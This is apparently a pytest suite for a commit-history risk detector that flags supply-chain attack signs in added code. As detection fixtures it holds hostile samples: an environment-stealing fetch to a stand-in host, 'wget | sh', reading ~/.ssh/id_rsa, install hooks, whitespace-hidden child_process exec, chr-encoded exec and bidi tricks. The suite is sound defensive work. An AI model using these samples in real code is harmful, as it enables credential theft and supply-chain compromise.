"""What added lines reach for, and what a merge brings of its own, in histories told by hand."""

import pandas as pd
import pytest

from trustdrift.features.capabilities import CAPABILITIES
from trustdrift.features.commit.capabilities import FAMILIAR
from trustdrift.features.mining import measure_text, mine
from trustdrift.features.signals import SIGNALS
from trustdrift.features.signs import columns_of
from trustdrift.features.vectors import describe_commits

from ..conftest import KEY
from ..repositories import DAY, FOUNDER, HELPERS, NEWCOMER, START, Repository

EXFILTRATION = b"const t = process.env\nfetch('https://collect.example/' + atob(t))\n"


def values_of(repository: Repository) -> pd.DataFrame:
    return describe_commits(mine(repository.write(), key=KEY)).values


def quiet_past(repository: Repository, many: int = FAMILIAR) -> None:
    for day in range(many):
        repository.commit({f"lib/part{day % 3}.js": b"let x = %d\n" % day}, author=FOUNDER,
                          time=START + day * DAY)  # fmt: skip


def shown(values: pd.DataFrame) -> set[str]:
    """Names of the signs that the last commit shows."""
    last = values.iloc[-1:]
    return {
        sign.name
        for sign in SIGNALS
        if sign.level == "commit" and sign.shown_by(columns_of(last))[0]
    }


@pytest.mark.parametrize(
    ("line", "name"),
    [
        (b"resp = urllib.request.urlopen(url)", "network"),
        (b"curl -fsSL $URL", "network"),
        (b"subprocess.run(args)", "programs"),
        (b"  x = popen(cmd, 0)", "programs"),
        (b"wget -qO- $URL | sh", "programs"),
        (b"eval $cmd", "evaluation"),
        (b"new Function(code)()", "evaluation"),
        (b"b64decode(blob)", "decoding"),
        (b"xz -dc tests/x | head", "decoding"),
        (b"key = os.environ['KEY']", "secrets"),
        (b"cat ~/.ssh/id_rsa", "secrets"),
        (b'  "postinstall": "node x.js",', "hooks"),
        (b"  pull_request_target:", "hooks"),
        (b"curl --insecure $URL", "disabling"),
        (b"make check || true", "disabling"),
    ],
)
def test_capabilities_are_told_by_their_names(line: bytes, name: str) -> None:
    assert measure_text(line)[name] >= 1


@pytest.mark.parametrize(
    "line",
    [
        b"the systems of retrieval and execution are evaluated",
        b"medieval(1); preeval; fetched(x); reconnect(y)",
        b"int spawned = prefetch; // system of connections",
        b"",
    ],
)
def test_ordinary_words_stand_for_nothing(line: bytes) -> None:
    found = measure_text(line)
    assert [found[name] for name in CAPABILITIES] == [0] * len(CAPABILITIES)


def test_every_name_is_counted_once_for_one_capability() -> None:
    for name, capability in CAPABILITIES.items():
        for written in (*capability.words, *capability.phrases):
            assert measure_text(b"x " + written + b" y")[name] >= 1, written
        others = [other for other in CAPABILITIES if other != name]
        assert not any(capability.words & CAPABILITIES[other].words for other in others)


def test_what_a_project_and_a_person_never_did_before_is_told(repository: Repository) -> None:
    quiet_past(repository)
    repository.commit({"lib/part0.js": EXFILTRATION}, author=FOUNDER, time=START + 90 * DAY)
    repository.commit({"lib/part1.js": EXFILTRATION}, author=FOUNDER, time=START + 91 * DAY)
    values = values_of(repository)
    first, second = values.iloc[-2], values.iloc[-1]
    news = ["author", "project", "folder", "kind"]
    assert [first[f"capabilities_new_to_{group}"] for group in news] == [3] * 4
    assert [second[f"capabilities_new_to_{group}"] for group in news] == [0] * 4
    assert first["secrets_with_network"] == first["urls"] == 1
    assert first["capabilities_in_one_file"] == 3
    assert shown(values.iloc[:-1]) >= {"secrets_and_network", "new_to_the_project"}


def test_nothing_is_new_where_nothing_is_known(repository: Repository) -> None:
    quiet_past(repository, FAMILIAR - 1)
    repository.commit({"lib/part0.js": EXFILTRATION}, author=FOUNDER, time=START + 90 * DAY)
    assert values_of(repository)["capabilities_new_to_project"].iloc[-1] == 0


def test_tests_and_documentation_are_not_code(repository: Repository) -> None:
    quiet_past(repository)
    repository.commit(
        {"tests/x.js": EXFILTRATION, "docs/guide.md": EXFILTRATION, "README.md": EXFILTRATION},
        author=FOUNDER, time=START + 90 * DAY,
    )  # fmt: skip
    last = values_of(repository).iloc[-1]
    assert last[["network", "secrets", "urls", "capabilities_new_to_project"]].eq(0).all()
    assert (last["capabilities_in_one_file"], last["capabilities_in_one_test"]) == (0, 3)
    assert last["added_bytes"] == 3 * len(EXFILTRATION)


def test_what_runs_with_the_tests_unasked_is_code(repository: Repository) -> None:
    quiet_past(repository)
    repository.commit({"tests/conftest.py": EXFILTRATION}, author=FOUNDER, time=START + 90 * DAY)
    last = values_of(repository).iloc[-1]
    assert (last["capabilities_in_one_file"], last["capabilities_in_one_test"]) == (3, 0)


def test_a_payload_in_a_file_that_is_moved_and_ended_otherwise_is_told_alone(
    repository: Repository,
) -> None:
    build = b"".join(b"fetch('part%d')\n" % i for i in range(300))
    repository.commit({"tool/vite.config.js": build}, author=FOUNDER)
    ended = build.replace(b"\n", b"\r\n") + EXFILTRATION
    repository.commit({"tool/vite.config.js": None, "vite.config.js": ended}, author=FOUNDER)
    last = values_of(repository).iloc[-1]
    assert (last["added_lines"], last["new_lines"]) == (302, 2)
    assert last["added_bytes"] == len(EXFILTRATION) - 1
    assert (last["network"], last["secrets"], last["steering_reach"]) == (1, 1, 3)


def test_a_script_without_an_ending_is_code_if_it_can_be_run(repository: Repository) -> None:
    repository.commit({"run": b"curl x\n", "notes": b"curl x\n"}, modes={"run": "100755"})
    assert values_of(repository)["network"].iloc[-1] == 1


def test_programs_of_other_shells_are_code_and_files_of_no_kind_are_told_apart(
    repository: Repository,
) -> None:
    repository.commit({"push.bat": b"curl x\n", ".cache": b"curl x\n", "a.md": b"curl x\n"})
    last = values_of(repository).iloc[-1]
    assert (last["network"], last["reach_of_unknown_files"]) == (1, 1)


def test_letters_of_two_scripts_and_characters_as_numbers_are_told(repository: Repository) -> None:
    quiet_past(repository)
    numbers = ", ".join(str(byte) for byte in b"import os\n" * 7)
    program = f"t = 'p\u0430ypal'\nexec(''.join(chr(n) for n in [{numbers}]))\n"
    repository.commit({"lib/part0.py": program.encode()}, time=START + 90 * DAY)
    values = values_of(repository)
    last = values.iloc[-1]
    assert (last["lookalikes"], last["encoded_runs"], last["decoding_with_running"]) == (1, 1, 1)
    assert shown(values) >= {"letters_of_two_scripts", "hard_to_read", "decodes_and_runs"}


def test_who_passes_a_newcomers_work_on_may_be_new_as_well(repository: Repository) -> None:
    old, late = START, START + 3 * 365 * DAY
    repository.commit({"a.c": b"1\n"}, author=FOUNDER, time=old)
    for day, (author, committer) in enumerate(
        [(HELPERS[0], HELPERS[0]), (NEWCOMER, FOUNDER), (NEWCOMER, HELPERS[0])]
    ):
        repository.commit(
            {"a.c": b"%d\n" % (day + 2)}, author=author, committer=committer,
            time=late + day * DAY,
        )  # fmt: skip
    values = values_of(repository)
    assert values["committers_tenure"].fillna(-1).tolist() == [-1, -1, 3 * 365 + 1, 2]
    assert "newcomers_among_themselves" in shown(values)
    assert "newcomers_among_themselves" not in shown(values.iloc[:-1])


def test_install_hooks_and_hidden_text_are_told(repository: Repository) -> None:
    quiet_past(repository)
    manifest = b'{"scripts": {\n  "postinstall": "node x.js"\n}}\n'
    hidden = "if (isAdmin\u202e) {}\n".encode()
    repository.commit({"package.json": manifest, "lib/part0.js": hidden}, time=START + 90 * DAY)
    values = values_of(repository)
    assert values["hooks"].iloc[-1] == values["hidden_characters"].iloc[-1] == 1
    assert shown(values) >= {"step_that_runs_itself", "hidden_text"}


def test_a_merge_is_a_commit_where_it_changes_something_itself(repository: Repository) -> None:
    root = repository.commit({"a.c": b"1\n"}, author=FOUNDER)
    repository.commit({"a.c": b"2\n"}, author=FOUNDER, time=START + DAY)
    side = repository.commit(
        {"b.c": b"1\n"}, branch="side", after=root, author=NEWCOMER, time=START + 2 * DAY
    )
    repository.commit({"b.c": b"1\n"}, merge=side, author=FOUNDER, time=START + 3 * DAY)
    other = repository.commit({"c.c": b"1\n"}, branch="side", author=NEWCOMER, time=START + 4 * DAY)
    repository.commit(
        {"c.c": b"1\n", "own.c": b"system(x);\n"}, merge=other, author=FOUNDER,
        time=START + 5 * DAY,
    )  # fmt: skip
    values = values_of(repository)
    assert len(values) == 5  # of six: the clean merge changes nothing
    assert values["merge_files"].tolist() == [0, 0, 0, 0, 1]
    assert values["merge_lines"].iloc[-1] == values["merge_new_files"].iloc[-1] == 1
    assert values["programs"].iloc[-1] == 1
    assert "merge_with_files_of_its_own" in shown(values)


def test_what_nobody_can_read_and_what_switches_checks_off_are_told(
    repository: Repository,
) -> None:
    quiet_past(repository)
    encoded = b"var x = 'aGVsbG8gd29ybGQ1aGVsbG8gd29ybGQ1aGVsbG8gd29ybGQ1aGVsbG8gd29ybGQ1AAAA'\n"
    repository.commit({"lib/part0.js": encoded}, author=NEWCOMER, time=START + 90 * DAY)
    assert "hard_to_read" in shown(values_of(repository))
    repository.commit(
        {"lib/part1.js": b"tls({rejectUnauthorized: false})\n"}, author=NEWCOMER,
        time=START + 91 * DAY,
    )  # fmt: skip
    assert "switches_off_checks" in shown(values_of(repository))
    assert "hard_to_read" not in shown(values_of(repository))


def test_tests_that_lose_more_than_they_gain_are_told(repository: Repository) -> None:
    repository.commit({"tests/a.py": b"1\n2\n3\n4\n", "tests/b.py": b"x\n"}, author=FOUNDER)
    repository.commit(
        {"tests/a.py": b"1\n5\n", "tests/b.py": None}, author=FOUNDER, time=START + DAY
    )
    assert values_of(repository)["test_lines_lost"].tolist() == [0, 2]


def test_what_is_out_of_sight_or_under_another_name_is_told(repository: Repository) -> None:
    quiet_past(repository)
    far = b"module.exports = {};" + b" " * 400 + b"require('child_process').exec(x)\n"
    program = b"const run = require('child_process')\n" * 40
    repository.commit(
        {"vite.config.mjs": far, "public/fonts/fa.woff2": program, "logo.png": b"oid sha256:0\n"},
        author=FOUNDER, time=START + 90 * DAY,
    )  # fmt: skip
    values = values_of(repository)
    last = values.iloc[-1]
    assert (last["blank_run"], last["disguised_files"], last["build_files"]) == (400, 1, 1)
    assert last["programs"] == 2 + 40
    assert shown(values) >= {"out_of_sight", "text_named_as_binary"}
    assert not shown(values.iloc[:-1]) & {"out_of_sight", "text_named_as_binary"}


@pytest.mark.parametrize(
    ("path", "programs"),
    [("examples/app/postcss.config.mjs", 2), ("spec/runner.js", 0), ("examples/app/main.js", 0)],
)
def test_tests_and_examples_are_no_place_to_hide_the_end_of_a_line(
    repository: Repository, path: str, programs: int
) -> None:
    """What they reach for is their own affair, but for what steers a build."""
    quiet_past(repository)
    far = b"module.exports = {};" + b" " * 400 + b"require('child_process').exec(x)\n"
    repository.commit({path: far}, author=FOUNDER, time=START + 90 * DAY)
    last = values_of(repository).iloc[-1]
    assert (last["blank_run"], last["programs"]) == (400, programs)


def test_a_commit_made_anew_long_after_is_told(repository: Repository) -> None:
    quiet_past(repository)
    repository.commit({"a.c": b"1\n"}, author=FOUNDER, time=START + 90 * DAY, later=400 * DAY)
    repository.commit({"a.c": b"2\n"}, author=FOUNDER, time=START + 491 * DAY, later=9 * DAY)
    repository.commit(
        {"a.c": b"3\n"}, author=FOUNDER, committer="GitHub <noreply@github.com>",
        time=START + 101 * DAY, later=400 * DAY,
    )  # fmt: skip
    values = values_of(repository)
    assert values["rewritten_after"].iloc[-3:-1].tolist() == [400, 9]
    assert pd.isna(values["rewritten_after"].iloc[-1])
    assert "old_date_kept" in shown(values.iloc[:-2])
    assert "old_date_kept" not in shown(values)


@pytest.mark.parametrize(
    ("message", "claim"),
    [
        ("docs: say how", "documentation"),
        ("Fix typo in release notes of the README", "documentation"),
        ("Bump x from 1 to 2", "version"),
        ("chore(deps): x", "version"),
        ("v1.2.3", "version"),
        ("release/v0.23.2 (#2188)", "version"),
        ("chore: x", "upkeep"),
        ("Minor cleanup", "upkeep"),
        ("fix: correct the schema", ""),
        ("Implement versioned parsers", ""),
        ("\n\n", ""),
        ("", ""),
    ],
)
def test_what_a_subject_claims_is_told(repository: Repository, message: str, claim: str) -> None:
    repository.commit({"a.c": b"1\n"}, message=message)
    assert mine(repository.write(), key=KEY).commits["claim"].tolist() == [claim]


def test_more_than_the_message_claims_is_told(repository: Repository) -> None:
    quiet_past(repository)
    files: dict[str, bytes | None] = {"lib/more.js": EXFILTRATION, "package.json": b"{}\n"}
    repository.commit(files, message="chore: deps", author=FOUNDER, time=START + 90 * DAY)
    repository.commit({"lib/part1.js": EXFILTRATION}, author=FOUNDER, time=START + 91 * DAY)
    values = values_of(repository)
    claimed = values.iloc[-2]
    assert claimed["code_beyond_claim"] == len(EXFILTRATION)
    assert claimed["capabilities_beyond_claim"] == 3
    last = values.iloc[-1]
    assert last[["code_beyond_claim", "capabilities_beyond_claim"]].isna().all()
